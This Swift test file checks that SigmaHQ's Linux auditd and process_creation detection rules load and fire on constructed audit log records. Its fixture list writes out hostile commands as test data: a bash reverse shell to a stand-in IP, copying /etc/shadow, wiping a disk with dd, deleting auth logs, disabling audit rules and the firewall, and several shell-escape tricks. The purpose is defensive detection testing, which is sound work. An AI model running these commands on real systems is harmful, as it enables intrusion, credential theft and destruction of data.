import Daemon
import EventModel
import Findings
import Foundation
import Sigma
import TestSupport
import Testing

/// SigmaHQ's auditd and process_creation rules for Linux, unchanged, over audit records
/// written the way auditd writes them.
@Suite struct AuditRuleTests {
    static let sigmaLinux = Fixtures.shared + "/sigma/linux-rules/rules/linux"

    static func pipeline(rules: [String]) throws -> ScanPipeline {
        var config = ScanConfiguration()
        config.rulePaths = rules
        config.aggregateWindowSeconds = 0
        return try ScanPipeline(configuration: config)
    }

    @Test func everyAuditdAndProcessCreationRuleLoads() throws {
        let dirs = ["auditd", "process_creation"].map { Self.sigmaLinux + "/" + $0 }
        let (set, report) = RuleSet.load(paths: dirs, pipeline: try Fixtures.bundledPipeline())
        #expect(report.rejected == 0 && report.errors.isEmpty, "\(report.errors)")
        let files = dirs.flatMap { dir in
            FileManager.default.enumerator(atPath: dir)!.compactMap { $0 as? String }.filter { $0.hasSuffix(".yml") }
        }
        #expect(set.rules.count == files.count)
        print("SigmaHQ Linux auditd + process_creation: \(set.rules.count) of \(files.count) rules loaded")
    }

    /// Findings per rule id for the records of `execs`, one audit event each.
    static func findings(_ execs: [AuditExec], rules: [String]) throws -> [String: Int] {
        var lines: [String] = []
        for (k, e) in execs.enumerated() { lines += e.lines(serial: 1000 + k, time: 1_764_240_000 + k) }
        var config = ScanConfiguration()
        config.rulePaths = rules
        config.aggregateWindowSeconds = 0
        config.reader.format = .audit
        var byRule: [String: Int] = [:]
        for f in try ScanPipeline(configuration: config).findings(of: lines) { byRule[f.rule.id, default: 0] += 1 }
        return byRule
    }

    /// One constructed event per rule family fires the family's rule.
    @Test func eachRuleFamilyFiresOnAnExecve() throws {
        let chattr = AuditExec(exe: "/usr/bin/chattr", argv: ["chattr", "-i", "/etc/passwd"])
        // auditd/execve: type EXECVE, a0 chattr, a1 -i.
        #expect(try Self.findings([chattr], rules: [Self.sigmaLinux + "/auditd/execve"])["a5b977d6-8a81-4475-91b9-49dbfcd941f7"] == 1)
        // auditd/path: the PATH record's name (the program run from a hidden folder).
        let hidden = AuditExec(exe: "/tmp/.x/miner", argv: ["miner"])
        #expect(try Self.findings([hidden], rules: [Self.sigmaLinux + "/auditd/path"])["9e1bef8d-0fff-46f6-8465-9aa54e128c1e"] == 1)
        // auditd/syscall: SYSCALL comm and exe.
        let insmod = AuditExec(exe: "/usr/bin/kmod", argv: ["insmod", "rootkit.ko"])
        #expect(try Self.findings([insmod], rules: [Self.sigmaLinux + "/auditd/syscall"])["106d7cbd-80ff-4985-b682-a7043e5acb72"] == nil)
        var insmodComm = insmod
        insmodComm.exe = "/usr/bin/kmod"
        let lines = insmodComm.lines(serial: 5).map { $0.replacingOccurrences(of: "comm=\"kmod\"", with: "comm=\"insmod\"") }
        var config = ScanConfiguration()
        config.rulePaths = [Self.sigmaLinux + "/auditd/syscall"]
        config.reader.format = .audit
        let found = try ScanPipeline(configuration: config).findings(of: lines).map(\.rule.id)
        #expect(found.contains("106d7cbd-80ff-4985-b682-a7043e5acb72"))
        // process_creation: the same event as Image and CommandLine; and a parent from its own exec.
        #expect(
            try Self.findings([chattr], rules: [Self.sigmaLinux + "/process_creation"])["34979410-e4b5-4e5d-8cfb-389fdff05c12"] == 1)
        let git = AuditExec(exe: "/usr/bin/git", argv: ["git", "-p", "help", "config"], pid: 700, ppid: 600)
        let shell = AuditExec(exe: "/usr/bin/sh", argv: ["sh", "-c", "/bin/sh 0<&1"], pid: 701, ppid: 700)
        #expect(
            try Self.findings([git, shell], rules: [Self.sigmaLinux + "/process_creation"])["47b3bbd4-1bf7-48cc-84ab-995362aaa75a"] == 1)
    }

    /// (rule id, program, argv): commands an attacker runs, each expected to raise its rule.
    static let attacks: [(String, String, [String])] = [
        ("e2072cab-8c9a-459b-b63c-40ae79e27031", "/usr/bin/base64", ["base64", "-d", "payload.b64"]),
        ("6104e693-a7d6-4891-86cb-49a258523559", "/usr/bin/bash", ["bash", "-i", ">&", "/dev/tcp/198.51.100.4/4444", "0>&1"]),
        ("ed447910-bc30-4575-a598-3a2e49516a7a", "/usr/sbin/setcap", ["setcap", "cap_setuid+ep", "/tmp/python3"]),
        ("d8d97d51-122d-4cdd-9e2f-01b4b4933530", "/usr/sbin/getcap", ["getcap", "-r", "/"]),
        ("34979410-e4b5-4e5d-8cfb-389fdff05c12", "/usr/bin/chattr", ["chattr", "-i", "/etc/passwd"]),
        ("fa4aaed5-4fe0-498d-bbc0-08e3346387ba", "/usr/bin/cp", ["cp", "/etc/shadow", "/tmp/s"]),
        ("c2e234de-03a3-41e1-b39a-1e56dc17ba67", "/usr/bin/crontab", ["crontab", "-r"]),
        ("9069ea3c-b213-4c52-be13-86506a227ab1", "/tmp/.x/xmrig", ["./xmrig", "-o", "stratum+tcp://pool.example.net:3333"]),
        ("4cad6c64-d6df-42d6-8dae-eb78defdc415", "/usr/bin/dd", ["dd", "if=shell.bin", "of=/proc/1234/mem"]),
        ("84c9e83c-599a-458a-a0cb-0ecce44e807a", "/usr/sbin/ufw", ["ufw", "disable"]),
        ("bed978f8-7f3a-432b-82c5-9286a9b3031a", "/usr/bin/env", ["env", "/bin/sh"]),
        ("6adfbf8f-52be-4444-9bac-81b539624146", "/usr/bin/find", ["find", ".", "-exec", "/bin/sh", "-p", ";", "-quit"]),
        ("bed26dea-4525-47f4-b24a-76e30e44ffb0", "/usr/sbin/auditctl", ["auditctl", "-D"]),
        ("8c1a5675-cb85-452f-a298-b01b22a51856", "/usr/bin/awk", ["awk", "BEGIN {system(\"/bin/sh\")}"]),
        ("bb382fd5-b454-47ea-a264-1828e4c766d6", "/usr/bin/apt-get", ["apt-get", "update", "-o", "APT::Update::Pre-Invoke::=/bin/sh"]),
        ("4b09c71e-4269-4111-9cdd-107d8867f0cc", "/usr/bin/flock", ["flock", "-u", "/", "/bin/sh"]),
        ("db1ac3be-f606-4e3a-89e0-9607cbe6b98a", "/usr/sbin/capsh", ["capsh", "--"]),
        ("ba592c6d-6888-43c3-b8c6-689b8fe47337", "/usr/bin/bash", ["bash", "-c", "echo ZWNobyBoaQ== | base64 -d | bash"]),
        ("2953194b-e33c-4859-b9e8-05948c167447", "/usr/bin/dd", ["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"]),
        ("f2bed782-994e-4f40-9cd5-518198cb3fba", "/usr/bin/sudo", ["sudo", "--chroot", "/tmp/root", "/bin/sh"]),
        (
            "f8341cb2-ee25-43fa-a975-d8a5a9714b39", "/usr/bin/bpftrace",
            ["bpftrace", "--unsafe", "-e", "kprobe:do_nanosleep { system(\"id\") }"]
        ),
        ("80915f59-9b56-4616-9de0-fd0dea6c12fe", "/usr/bin/rm", ["rm", "-rf", "/var/log/auth.log"]),
    ]

    /// Everyday commands that none of the process_creation rules should mind.
    static let benign: [(String, [String])] = [
        ("/usr/bin/ls", ["ls", "-l", "/home/alice"]), ("/usr/bin/cat", ["cat", "notes.txt"]),
        ("/usr/bin/git", ["git", "status"]), ("/usr/bin/make", ["make", "-j2"]), ("/usr/bin/vim", ["vim", "README.md"]),
        ("/usr/bin/python3", ["python3", "manage.py", "runserver"]), ("/usr/bin/less", ["less", "build log.txt"]),
        ("/usr/bin/ssh", ["ssh", "build@ci.example.net"]), ("/usr/bin/tar", ["tar", "xzf", "release.tgz"]),
        ("/usr/bin/systemctl", ["systemctl", "status", "nginx"]),
    ]

    @Test func generatedStreamsRaiseTheirRulesAndBenignCommandsNone() throws {
        let rules = [Self.sigmaLinux + "/process_creation"]
        let execs = Self.attacks.enumerated().map { k, a in AuditExec(exe: a.1, argv: a.2, pid: 3000 + k, ppid: 2000) }
        let found = try Self.findings(execs, rules: rules)
        var hit = 0
        for (id, exe, argv) in Self.attacks {
            #expect(found[id] != nil, "\(id) did not fire on \(exe) \(argv)")
            if found[id] != nil { hit += 1 }
        }
        print("process_creation over generated audit streams: \(hit) of \(Self.attacks.count) rules fired")
        let quiet = try Self.findings(Self.benign.enumerated().map { k, b in AuditExec(exe: b.0, argv: b.1, pid: 5000 + k) }, rules: rules)
        #expect(quiet.isEmpty, "benign commands raised \(quiet)")
    }

    /// `logtriage scan` of an audit.log: findings from the unchanged SigmaHQ rule, and the summary
    /// counts the records, the events they made and the one whose other records never came.
    @Test func scanOfAnAuditLogCountsRecordsAndEvents() throws {
        let dir = NSTemporaryDirectory() + "logtriage-audit-\(UUID().uuidString.prefix(8))"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        var lines = AuditExec(exe: "/usr/bin/chattr", argv: ["chattr", "-i", "/etc/shadow"]).lines(serial: 100)
        lines += AuditExec(exe: "/usr/bin/ls", argv: ["ls", "-la"]).lines(serial: 101)
        lines.append(
            "type=SYSCALL msg=audit(1764240000.123:102): arch=c000003e syscall=257 success=yes exit=3 ppid=1 pid=77 comm=\"cat\" exe=\"/usr/bin/cat\""
        )
        let path = dir + "/audit.log"
        try (lines.joined(separator: "\n") + "\n").write(toFile: path, atomically: true, encoding: .utf8)
        let (status, out, err) = try Fixtures.run(Fixtures.binary, ["scan", "--rules", Self.sigmaLinux + "/process_creation", path])
        #expect(status == 0, "\(err)")
        let findings = String(decoding: out, as: UTF8.self).split(separator: "\n")
        #expect(findings.count == 1 && findings[0].contains("34979410-e4b5-4e5d-8cfb-389fdff05c12"), "\(findings)")
        #expect(err.contains("audit: 13 records in 3 events (1 incomplete)"), "\(err)")
    }
}
